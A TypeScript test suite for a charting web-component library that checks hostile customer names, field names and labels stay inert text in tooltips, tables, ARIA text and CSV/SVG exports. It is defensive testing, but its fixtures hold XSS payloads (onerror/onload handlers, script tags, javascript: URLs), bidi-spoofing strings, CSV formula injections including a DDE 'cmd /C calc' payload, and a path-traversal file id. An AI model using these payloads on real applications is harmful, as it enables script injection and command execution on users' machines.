// Hostile customer names, field names and labels (issue 7 §2): whatever the host passes stays text in every view
// (SVG labels, tooltips, tables, summaries, ARIA announcements, CSV and SVG exports), creates no element or attribute,
// cannot reorder the figures around it with bidi controls, and cannot run as a spreadsheet formula.
import { expect, fixture, html } from "@open-wc/testing";
import type { BillInput } from "@keylens/engine";
import "../src/define.ts";
import type { KeylensBill } from "../src/bill.ts";
import type { KeylensElement } from "../src/keylens-element.ts";
import type { KeylensPareto } from "../src/pareto.ts";
import type { KeylensQuadrant } from "../src/quadrant.ts";
import type { KeylensTierTable } from "../src/tier-table.ts";
import type { KeylensDashboard } from "../src/dashboard.ts";
import { csvCell } from "../src/to-csv.ts";
import { csvRecords } from "../src/parse-csv.ts";
import { clipLabel } from "../src/text-width.ts";
import { isolateBidi } from "../src/ui-text.ts";
import { fixtureRows, frames } from "./helpers.ts";

type Probe = Window & { __xss?: number };

/** Names a hostile or careless host might pass. None may run, load, or be parsed as markup. */
const HOSTILE: Record<string, string> = {
  html: '<img src="/test/fixtures/injected.png" onerror="window.__xss=1"><keylens-evil></keylens-evil>',
  svg: '<svg onload="window.__xss=2"><script>window.__xss=3</script><a href="javascript:window.__xss=4">x</a></svg>',
  javascript: "javascript:window.__xss=5",
  bidi: "\u202Eevil\u202C 1234 \u2066x",
  long: "长".repeat(10_000),
  formula: '=HYPERLINK("http://example.invalid/?x"&A1,"open")',
  tabFormula: "\t=1+1",
  crFormula: "\r@SUM(1)",
};

const FORBIDDEN_TAGS = new Set([
  "img",
  "script",
  "iframe",
  "object",
  "embed",
  "foreignobject",
  "a",
  "image",
  "use",
  "animate",
  "set",
  "link",
  "meta",
  "base",
  "form",
  "keylens-evil",
]);

/** Returns every element, attribute or URL in `root` (and nested shadow roots) that data could have created. */
function injected(root: ParentNode): string[] {
  const out: string[] = [];
  for (const el of root.querySelectorAll("*")) {
    if (FORBIDDEN_TAGS.has(el.localName)) out.push(`<${el.localName}>`);
    for (const a of el.attributes) {
      if (/^on/i.test(a.name)) out.push(`${el.localName}[${a.name}]`);
      if (/^\s*javascript:/i.test(a.value) && a.name !== "data-line")
        out.push(`${el.localName}[${a.name}=javascript:]`);
    }
    if (el.shadowRoot) out.push(...injected(el.shadowRoot));
  }
  return out;
}

function expectInert(el: Element): void {
  expect(injected(el.shadowRoot!), "elements or attributes created from data").to.deep.equal([]);
  expect((window as Probe).__xss, "no hostile script ran").to.equal(undefined);
}

/** The CSV cell a value must become: formula-like text behind a quote, as `csvCell` writes it, unquoted. */
function csvText(value: string): string {
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

/** Parses exported SVG markup and checks it the same way as the live tree. */
function exportedSvg(markup: string): Document {
  const doc = new DOMParser().parseFromString(markup, "image/svg+xml");
  expect(doc.querySelector("parsererror"), "the export is well-formed SVG").to.equal(null);
  expect(
    injected(doc).filter((x) => x !== "<image>"),
    "nothing created in the export",
  ).to.deep.equal([]);
  return doc;
}

const base = await fixtureRows();
/** The fixture with customer 0 (the largest) renamed. */
const renamed = (name: string) => base.map((r, i) => (i === 0 ? { ...r, name } : r));

async function ready<T extends KeylensElement>(el: T): Promise<T> {
  await frames();
  await el.dataReady();
  for (const child of el.shadowRoot!.querySelectorAll<KeylensElement>("*"))
    if ("dataReady" in child) await child.dataReady();
  return el;
}

async function openTable(el: KeylensElement): Promise<void> {
  const details = el.shadowRoot!.querySelector("details")!;
  details.open = true;
  await new Promise((r) => details.addEventListener("toggle", r, { once: true }));
  await el.updateComplete;
}

function key(el: KeylensElement, k: string): void {
  el.shadowRoot!.querySelector(".plot")!.dispatchEvent(new KeyboardEvent("keydown", { key: k, bubbles: true }));
}

describe("hostile names and fields stay text", () => {
  afterEach(() => {
    delete (window as Probe).__xss;
  });

  for (const [kind, name] of Object.entries(HOSTILE)) {
    it(`pareto: a ${kind} name is text in the tooltip, announcement, data table and CSV/SVG exports`, async () => {
      const el = await ready(
        await fixture<KeylensPareto>(html`<keylens-pareto lang="en" .customers=${renamed(name)}></keylens-pareto>`),
      );
      key(el, "Home");
      await el.updateComplete;
      const root = el.shadowRoot!;
      expect(root.querySelector(".tip .tip-title")!.textContent).to.equal(clipLabel(name));
      expect(root.querySelector("[aria-live]")!.textContent).to.contain(`Rank 1, ${isolateBidi(name)}: value`);
      await openTable(el);
      const firstRow = root.querySelectorAll(".table-wrap table")[1]!.querySelector("tbody th")!;
      expect(firstRow.textContent).to.equal(name);
      expectInert(el);
      const records = csvRecords(el.toCsv()!.slice(1));
      expect(records[1]![2]).to.equal(csvText(name));
      const svg = exportedSvg(el.toSvg()!);
      // XML parsing turns a CR into LF (end-of-line handling); both are whitespace in SVG text.
      expect([...svg.querySelectorAll("text")].map((t) => t.textContent)).to.include(
        clipLabel(name).replace(/\r/g, "\n"),
      );
    });

    it(`quadrant: a ${kind} name is text in the tooltip, announcement, data table and CSV/SVG exports`, async () => {
      const el = await ready(
        await fixture<KeylensQuadrant>(
          html`<keylens-quadrant lang="en" .customers=${renamed(name)}></keylens-quadrant>`,
        ),
      );
      const root = el.shadowRoot!;
      // Step through the points until the renamed customer has focus.
      for (let i = 0; i < base.length; i++) {
        key(el, "ArrowRight");
        await el.updateComplete;
        if (root.querySelector(".tip .tip-title")?.textContent === clipLabel(name)) break;
      }
      expect(root.querySelector(".tip .tip-title")!.textContent).to.equal(clipLabel(name));
      expect(root.querySelector("[aria-live]")!.textContent).to.contain(`${isolateBidi(name)}: x `);
      await openTable(el);
      const names = [...root.querySelectorAll(".table-wrap table")[1]!.querySelectorAll("tbody th")].map(
        (th) => th.textContent,
      );
      expect(names).to.include(name);
      expectInert(el);
      expect(csvRecords(el.toCsv()!.slice(1)).map((r) => r[1])).to.include(csvText(name));
      const svg = exportedSvg(el.toSvg()!);
      // XML parsing turns a CR into LF (end-of-line handling); both are whitespace in SVG text.
      expect([...svg.querySelectorAll("text")].map((t) => t.textContent)).to.include(
        clipLabel(name).replace(/\r/g, "\n"),
      );
    });

    it(`tier table: a ${kind} name is text in its row, the search and the CSV`, async () => {
      const el = await ready(
        await fixture<KeylensTierTable>(
          html`<keylens-tier-table lang="en" .customers=${renamed(name)}></keylens-tier-table>`,
        ),
      );
      const button = el.shadowRoot!.querySelector("tbody tr th button")!;
      expect(button.textContent!.trim()).to.equal(name.trim());
      const search = el.shadowRoot!.querySelector<HTMLInputElement>('input[type="search"]')!;
      search.value = name.slice(0, 40);
      search.dispatchEvent(new Event("input"));
      await el.updateComplete;
      expect(el.shadowRoot!.querySelectorAll("tbody tr").length).to.be.greaterThan(0);
      expectInert(el);
      expect(csvRecords(el.toCsv()!.slice(1))[1]![2]).to.equal(csvText(name));
    });
  }

  it("field names full of markup, bidi controls and formulas are text in axes, tooltips, summaries and CSV headers", async () => {
    const x = `<img src=/test/fixtures/x.png onerror=window.__xss=6>\u202E orders`;
    const y = "=cmd|' /C calc'!A0";
    const size = '"><svg onload=window.__xss=7>';
    const rows = base.map((r) => ({ ...r, [x]: r.ordersPerYear, [y]: r.shareOfWallet, [size]: r.revenue }));
    const el = await ready(
      await fixture<KeylensQuadrant>(
        html`<keylens-quadrant lang="en" x-field=${x} y-field=${y} size-field=${size} .customers=${rows}>
        </keylens-quadrant>`,
      ),
    );
    const root = el.shadowRoot!;
    const titles = [...root.querySelectorAll(".axis-title")].map((t) => t.textContent!.trim());
    expect(titles).to.deep.equal([x, y]);
    key(el, "ArrowRight");
    await el.updateComplete;
    const tip = [...root.querySelectorAll(".tip text")].map((t) => t.textContent);
    // The bidi field is isolated so its U+202E cannot reverse the number after it.
    expect(tip[1]).to.match(new RegExp(`^\u2068${x.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\u2069: `));
    expect(tip[2]).to.match(/^=cmd\|' \/C calc'!A0: /);
    expect(tip[3]).to.match(/^"><svg onload=window.__xss=7>: /);
    expect(root.querySelector("#summary")!.textContent).to.contain(`(${x})`);
    expectInert(el);
    const header = csvRecords(el.toCsv()!.slice(1))[0]!;
    expect(header).to.include(x);
    expect(header).to.include(`'${y}`);
  });

  it("a missing field named like markup is named as text in the error", async () => {
    const field = "<img src=/test/fixtures/y.png onerror=window.__xss=8>";
    const el = await fixture<KeylensPareto>(
      html`<keylens-pareto lang="en" value-field=${field} .customers=${base}></keylens-pareto>`,
    );
    expect(el.shadowRoot!.querySelector('[role="alert"]')!.textContent).to.contain(`No row has the field "${field}"`);
    expectInert(el);
  });

  it("tier labels and headings from attributes are text in cut labels, cards, ARIA labels, the summary and CSV", async () => {
    const labels = "<b>A</b>,\u202EB,=C";
    const heading = '<svg onload="window.__xss=9">';
    const el = await ready(
      await fixture<KeylensPareto>(
        html`<keylens-pareto lang="en" labels=${labels} heading=${heading} .customers=${base}></keylens-pareto>`,
      ),
    );
    const root = el.shadowRoot!;
    const cuts = [...root.querySelectorAll(".cut-label")].map((t) => t.textContent);
    expect(cuts[0]).to.equal("<b>A</b> ≤ 80.0%");
    expect(cuts[1]).to.equal("\u2068\u202EB\u2069 ≤ 95.0%");
    expect([...root.querySelectorAll(".tier-name")].map((n) => n.textContent!.trim())).to.deep.equal([
      "<b>A</b>",
      "\u202EB",
      "=C",
    ]);
    expect(root.querySelector(".plot")!.getAttribute("aria-label")).to.equal(heading);
    expect(root.querySelector(".title")!.textContent).to.equal(heading);
    expect(root.querySelector("#summary")!.textContent).to.contain("Tier \u2068\u202EB\u2069:");
    expectInert(el);
    const tiers = csvRecords(el.toCsv()!.slice(1)).map((r) => r[6]);
    expect(tiers).to.include("'=C");
    expect(tiers).not.to.include("=C");
  });

  it("bill: hostile customer, id, surcharge and fixed-load names are text in the header, picker, lines and CSV", async () => {
    const bills = (await (await fetch(new URL("./fixtures/bills.json", import.meta.url))).json()) as {
      bills: { id: string; customerName: string; input: BillInput & Record<string, unknown> }[];
    };
    const [first, second] = bills.bills;
    const customer = '<img src=/test/fixtures/z.png onerror="window.__xss=10">\u202E';
    const entries = [
      { ...first!, customerName: customer, id: "../../=evil/\u202Ex" },
      {
        ...second!,
        input: {
          ...second!.input,
          surcharges: [{ name: "=1+1<script>window.__xss=11</script>", priceYuanPerKwh: 0.01 }],
        },
      },
    ];
    const el = await ready(
      await fixture<KeylensBill>(html`<keylens-bill lang="en" .customers=${entries}></keylens-bill>`),
    );
    const root = el.shadowRoot!;
    expect(root.querySelector(".meta")!.textContent).to.contain(isolateBidi(customer));
    expect(root.querySelector("select option")!.textContent).to.contain(isolateBidi(customer));
    expectInert(el);
    const captured: string[] = [];
    el.addEventListener("keylens-export", (e) => {
      captured.push((e as CustomEvent<{ filename: string }>).detail.filename);
      e.preventDefault();
    });
    await el.exportAs("csv");
    // The host's id cannot steer the file name out of the download folder or into a formula.
    expect(captured).to.deep.equal(["keylens-bill-.._.._evil_x.csv"]);
    el.billId = second!.id;
    await el.updateComplete;
    const labels = [...root.querySelectorAll("tbody tr.line th")].map((th) => th.textContent!);
    expect(labels.some((l) => l.includes("=1+1<script>window.__xss=11</script>"))).to.equal(true);
    expectInert(el);
    const cells = csvRecords(el.toCsv()!.slice(1)).flat();
    expect(cells.some((c) => c.startsWith("=") || c.startsWith("+"))).to.equal(false);
  });

  it("dashboard: a hostile value field and names are text in the headline figures and every panel", async () => {
    const field = "<svg onload=window.__xss=12>";
    const rows = renamed(HOSTILE.html!).map((r) => ({ ...r, [field]: r.revenue }));
    const el = await ready(
      await fixture<KeylensDashboard>(
        html`<keylens-dashboard lang="en" value-field=${field} .customers=${rows}></keylens-dashboard>`,
      ),
    );
    const kpiSubs = [...el.shadowRoot!.querySelectorAll(".kpi .sub")].map((s) => s.textContent);
    expect(kpiSubs).to.include(`sum of the "${field}" field`);
    const table = el.shadowRoot!.querySelector<KeylensTierTable>("keylens-tier-table")!;
    const names = [...table.shadowRoot!.querySelectorAll("tbody th button")].map((b) => b.textContent!.trim());
    expect(names).to.include(HOSTILE.html);
    expectInert(el);
  });

  it("CSV cells that start with = + - @, tab or CR get a leading quote; numbers stay numbers", () => {
    for (const s of ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
      expect(csvCell(s).replace(/^"|"$/g, "")).to.match(/^'/);
    expect(csvCell(-12.5)).to.equal("-12.5");
    expect(csvCell("a,b")).to.equal('"a,b"');
    expect(csvCell('say "hi"')).to.equal('"say ""hi"""');
  });
});
